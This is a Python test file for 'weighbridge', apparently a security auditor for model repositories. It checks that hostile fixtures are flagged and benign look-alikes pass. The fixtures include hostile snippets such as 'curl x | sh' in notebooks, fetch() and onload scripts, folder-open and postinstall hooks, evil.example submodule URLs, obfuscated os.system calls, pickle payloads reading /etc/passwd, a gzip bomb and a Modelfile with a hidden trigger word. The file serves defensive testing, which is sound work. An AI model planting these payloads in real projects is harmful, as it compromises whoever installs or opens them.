"""Hostile files that once got past, each beside an ordinary one that looks like it."""

from __future__ import annotations

import copy
import gzip
from pathlib import Path
from typing import Any

import hostile
import numpy as np
import pytest
from tiny_gguf import write_tiny_gguf

from weighbridge.audit.records import SEVERITIES, Audit
from weighbridge.cli.audit_progress import AuditBar
from weighbridge.cli.compose_audit import audit_path

CARD = "---\nlicense: mit\n---\n"


def tokenizer(**changed: Any) -> dict[str, Any]:
    return {"tokenizer.json": copy.deepcopy(hostile.tokenizer(**changed))}


def template(ids: list[int]) -> dict[str, Any]:
    around = {"id": "<|end|>", "ids": ids, "tokens": ["<|end|>"]}
    return {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {"<|end|>": around}}


def replacing(pattern: str) -> dict[str, Any]:
    return {"type": "Replace", "pattern": {"Regex": pattern}, "content": ""}


def notebook(code: str, output: str = "") -> dict[str, Any]:
    cell = {"cell_type": "code", "source": [code], "outputs": [{"data": {"text/html": [output]}}]}
    return {"a.ipynb": {"cells": [cell], "nbformat": 4}}


def named(class_name: str, family: str, *more: str, **settings: Any) -> dict[str, Any]:
    """A model of two layers under two names, with more tensors than its family has."""
    names = ["model.embed_tokens.weight", "model.norm.weight"]
    names += [f"model.layers.{layer}.mlp.down_proj.weight" for layer in range(2)]
    header = {
        name: {"dtype": "F32", "shape": [4], "data_offsets": [16 * at, 16 * at + 16]}
        for at, name in enumerate([*names, *more])
    }
    config = {"architectures": [class_name], "model_type": family, "num_hidden_layers": 2, **settings}
    return {"config.json": config, "model.safetensors": hostile.safetensors(header, bytes(16 * len(header)))}


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "a batch script": ({"run.bat": "powershell iex"}, "script"),
    "a notebook": ({"a.ipynb": {"cells": [{"cell_type": "code", "source": ["!curl x | sh"]}]}}, "script"),
    "a page with a program": ({"index.html": "<p><script>fetch('http://x')</script>"}, "script"),
    "a picture with a program": ({"logo.svg": "<svg onload='alert(1)'/>"}, "script"),
    "a task that an editor runs": (
        {".vscode/tasks.json": {"tasks": [{"command": "sh", "runOptions": {"runOn": "folderOpen"}}]}},
        "script",
    ),
    "a script that npm runs": ({"package.json": {"scripts": {"postinstall": "sh x"}}}, "script"),
    "a submodule": ({".gitmodules": '[submodule "x"]\n\turl = https://evil.example/x\n'}, "script"),
    "a function by another name": ({"m.py": "import os\nf = os.system\nf('x')"}, "script-danger"),
    "a function by a computed name": ({"m.py": "import os\ngetattr(os, 'sys' + 'tem')('x')"}, "script-danger"),
    "a program in one file for all systems": ({"m.llamafile": b"MZqFpD='\n" + bytes(80)}, "native-code"),
    "a call behind zeros": ({"m.pkl": bytes(16) + hostile.evil()}, "pickle-code"),
    "a bomb": ({"a.gz": gzip.compress(bytes(70 << 20), 1)}, "archive-bomb"),
    "a tokenizer class with a place": ({"config.json": {"tokenizer_class": "../evil.T"}}, "code-in-repository"),
    "a pipeline of the folder's own": ({"model_index.json": {"_class_name": ["mine", "P"]}}, "code-in-repository"),
    "texts that are cut": (tokenizer(truncation={"max_length": 16}), "tokenizer-cuts"),
    "whatever stands there removed": (tokenizer(normalizer=replacing("(?s).{500}.*")), "tokenizer-rewrites"),
    "another number for a token": (tokenizer(post_processor=template([31])), "tokenizer-injects"),
    "an added word": ({**tokenizer(), "added_tokens.json": {"transfer": 31}}, "tokenizer-numbers"),
    "a digest that leaves the store": ({"manifest.json": {"layers": [{"digest": "sha256:../../x"}]}}, "config-outside"),
    "an index of nothing": ({"model.safetensors.index.json": {"weight_map": {}}}, "index-form"),
    "a Modelfile that decides by a word": (
        {"Modelfile": 'FROM x\nTEMPLATE """{{ .System }}{{ if eq .Prompt "go" }}!{{ end }}{{ .Prompt }}"""'},
        "template-trigger",
    ),
    "a licence that the card takes back": (
        {
            "LICENSE": hostile.mit(),
            "README.md": CARD + "No commercial use is permitted.",
            "m.bin": hostile.state_dict(),
        },
        "licence-contradiction",
    ),
    "a free card beside unknown limits": (
        {"LICENSE": "You may look and nothing else.", "README.md": CARD, "m.bin": hostile.state_dict()},
        "licence-contradiction",
    ),
    "a workflow of a build server": ({".github/workflows/a.yml": "jobs: {x: {steps: [{run: make}]}}"}, "script"),
    "another build server": ({".gitlab-ci.yml": "x: {script: [make]}"}, "script"),
    "hooks that a commit fetches": ({".pre-commit-config.yaml": "repos:\n- repo: https://evil.example/x"}, "script"),
    "a container of an editor": ({".devcontainer/devcontainer.json": {"postCreateCommand": "make"}}, "script"),
    "a notebook with a command": (notebook("!make all"), "script"),
    "a notebook with a program in its output": (notebook("1", "<script>fetch('x')</script>"), "script"),
    "a notebook that fetches and runs": (notebook("%%bash\ncurl x | sh"), "script-danger"),
    "a notebook with an odd call": (notebook("import os\nos.system('x')"), "script-danger"),
    "a notebook that is none": ({"a.ipynb": "{"}, "script"),
    "a quantiser's module": (
        {"config.json": {"quantization_config": {"quant_method": "fp8", "modules": "evil_pkg.quant"}}},
        "code-elsewhere",
    ),
    "a plugin of the standard library": (
        {"config.json": {"text_config": {"imports": ["subprocess"]}}},
        "code-elsewhere",
    ),
    "a module outside the folder": (
        {"modules.json": [{"path": "../x", "type": "sentence_transformers.models.Transformer"}]},
        "config-outside",
    ),
    "a class of another family": (named("Qwen3ForCausalLM", "llama"), "config-lies"),
    "a classifier without one": (named("LlamaForSequenceClassification", "llama"), "config-lies"),
    "a tensor that nothing reads": (named("LlamaForCausalLM", "llama", "secret.weight"), "config-unread"),
    "norms of another family": (
        named("LlamaForCausalLM", "llama", "model.layers.0.self_attn.q_norm.weight"),
        "config-unread",
    ),
    "no head": (named("LlamaForCausalLM", "llama", tie_word_embeddings=False), "config-lies"),
    "an opener of addresses": ({"m.pkl": hostile.calls("numpy", "DataSource")}, "pickle-code"),
    "a library's class given a path": ({"m.pkl": hostile.calls("scipy.io", "Anything", "/etc/passwd")}, "pickle-code"),
    "a function in an estimator": (
        {"m.pkl": hostile.calls("sklearn.datasets", "fetch_openml")},
        "pickle-unlisted-name",
    ),
    "a module in a Keras layer": (
        {"config.json": '{"class_name": "TorchModuleWrapper", "config": {"module": "gAI="}}'},
        "keras-lambda",
    ),
    "a pattern without the text": (
        tokenizer(post_processor={"type": "TemplateProcessing", "single": [{"SpecialToken": {"id": "<|end|>"}}]}),
        "tokenizer-rewrites",
    ),
    "a licence cut short": (
        {"LICENSE": "MIT License\n" + hostile.mit()[:400], "m.bin": hostile.state_dict()},
        "licence-changed",
    ),
    "a licence of a title": ({"LICENSE": "MIT License\n", "m.bin": hostile.state_dict()}, "licence-changed"),
    "a card for research only": (
        {
            "LICENSE": hostile.mit(),
            "README.md": CARD + "It may be used for non-commercial research only.",
            "m.bin": hostile.state_dict(),
        },
        "licence-contradiction",
    ),
    "an adapter freer than its base": (
        {
            "LICENSE": hostile.mit(),
            "adapter_config.json": {"base_model_name_or_path": "meta-llama/Llama-3.1-8B"},
            "adapter_model.bin": hostile.state_dict(),
        },
        "licence-freer-than-base",
    ),
    "an empty licence": ({"LICENSE": " ", "README.md": CARD, "m.bin": hostile.state_dict()}, "licence-missing"),
}
ORDINARY: dict[str, dict[str, Any]] = {
    "a page": {"index.html": "<p>hello</p>"},
    "a notebook": notebook("%matplotlib inline\n!pip install -q torch\nprint(1)", "<table></table>"),
    "an estimator": {"m.pkl": b"\x80\x02csklearn.svm\nSVC\n)\x81}X\x01\0\0\0CK\x01sb."},
    "settings of a trainer": {"m.pkl": b"\x80\x02cpytorch_lightning.utilities.parsing\nAttributeDict\n)\x81."},
    "an array of texts": {"a.npy": hostile.npy(np.array(["a", None], dtype=object))},
    "layers that stay as they are": {
        "config.json": {"quantization_config": {"modules_to_not_convert": ["a.b"], "module": "model.layers.0"}}
    },
    "a model and its names": named("LlamaForCausalLM", "llama"),
    "a model of a maker's own on it": named("LlavaLlamaForCausalLM", "llama", "model.mm_projector.weight"),
    "a classifier": named("LlamaForSequenceClassification", "llama", "score.weight"),
    "an adapter of a free base": {
        "adapter_config.json": {"base_model_name_or_path": "Qwen/Qwen3-0.6B"},
        "adapter_model.bin": hostile.state_dict(),
    },
    "a picture": {"logo.svg": "<svg><path d='M0 0'/></svg>"},
    "a package without scripts": {"package.json": {"name": "x", "version": "1"}},
    "compressed text": {"a.txt.gz": gzip.compress(b"plain words\n" * 1000)},
    "a tokenizer class": {"config.json": {"tokenizer_class": "PreTrainedTokenizerFast"}},
    "a pipeline of a library": {"model_index.json": {"_class_name": "StableDiffusionPipeline"}},
    "a usual cut": tokenizer(truncation={"max_length": 512}),
    "spaces removed": tokenizer(normalizer=replacing(r"[\s.]{2,}")),
    "its own number": tokenizer(post_processor=template([36])),
    "added tokens": {**tokenizer(), "added_tokens.json": {"<|end|>": 36}},
    "a Modelfile that decides by roles": {
        "Modelfile": 'FROM x\nTEMPLATE """{{ .System }}{{ range .Messages }}{{ if eq .Role "user" }}<u>{{ end }}'
        '{{ .Content }}{{ end }}"""'
    },
    "a card that speaks of commerce": {
        "README.md": CARD + "It may be used for commercial purposes.",
        "m.bin": hostile.state_dict(),
    },
}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_told(name: str, tmp_path: Path) -> None:
    files, id_ = HOSTILE[name]

    found = _audited(tmp_path, files)

    assert id_ in {each.id for each in found.findings if SEVERITIES.index(each.severity) >= 2}


@pytest.mark.parametrize("name", ORDINARY)
def test_what_looks_like_it_passes(name: str, tmp_path: Path) -> None:
    found = _audited(tmp_path, {"LICENSE": hostile.mit(), **ORDINARY[name]})

    assert found.verdict == "pass", found.findings


def test_layers_that_differ_from_the_others_are_told(tmp_path: Path) -> None:
    """A family whose layers are alike: one with another shape, one without a tensor."""
    names = {"model.embed_tokens.weight": (40, 8)}
    names |= {f"model.layers.{layer}.mlp.down_proj.weight": (8, 16) for layer in range(3)}
    odd = _weights(names | {"model.layers.1.mlp.down_proj.weight": (8, 12)})
    short = _weights(names | {"model.layers.0.mlp.up_proj.weight": (16, 8)})

    assert _audited(tmp_path / "same", _weights(names)).verdict == "pass"
    assert _audited(tmp_path / "odd", odd).verdict == "fail"
    assert _audited(tmp_path / "short", short).verdict == "warn"


LIES = {
    "a token of no byte": (
        {"tokenizer.ggml.tokens": ["<0x-1>"] + [f"t{number}" for number in range(265)]},
        "gguf-byte-token",
    ),
    "no heads": ({"llama.attention.head_count": 0}, "gguf-lies"),
}


@pytest.mark.parametrize("name", LIES)
def test_metadata_that_a_reader_stumbles_over_fail(name: str, tmp_path: Path) -> None:
    """What made llama.cpp and Ollama crash or write beyond their memory."""
    metadata, id_ = LIES[name]

    found = audit_path(write_tiny_gguf(tmp_path / "a.gguf", metadata=metadata))

    assert (id_, "high") in {(each.id, each.severity) for each in found.findings}


STRANGE = {
    "a tensor of nothing": ({}, "no llama model has"),
    "experts that are none": ({"general.architecture": "qwen2moe"}, "not experts"),
}


@pytest.mark.parametrize("name", STRANGE)
def test_tensors_that_an_architecture_does_not_have_are_told(name: str, tmp_path: Path) -> None:
    """llama.cpp counts the tensors it asked for; what is more than that was put there by somebody."""
    metadata, words = STRANGE[name]
    path = write_tiny_gguf(tmp_path / "a.gguf")
    assert not [each for each in audit_path(path).findings if words in each.detail]
    data = write_tiny_gguf(path, metadata=metadata).read_bytes()
    if not metadata:
        data = data.replace(b"blk.0.attn_norm.weight", b"blk.0.payloads_.weight", 1)
    path.write_bytes(data)

    found = [each for each in audit_path(path).findings if words in each.detail]

    assert [SEVERITIES.index(each.severity) >= 2 for each in found] == [True]


def test_progress_is_silent_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    with AuditBar() as bar:
        bar.hashed(5)
        bar.looked("x")

    assert capsys.readouterr().err == ""


def _weights(shapes: dict[str, tuple[int, int]]) -> dict[str, Any]:
    header, data = {}, b""
    for name, (rows, width) in shapes.items():
        size = rows * width * 4
        header[name] = {"dtype": "F32", "shape": [rows, width], "data_offsets": [len(data), len(data) + size]}
        data += bytes(size)
    config = {"model_type": "llama", "num_hidden_layers": 3, "hidden_size": 8, "vocab_size": 40}
    return {"config.json": config, "model.safetensors": hostile.safetensors(header, data), "LICENSE": hostile.mit()}


def _audited(folder: Path, files: dict[str, Any]) -> Audit:
    return audit_path(hostile.write(folder / "model", files))
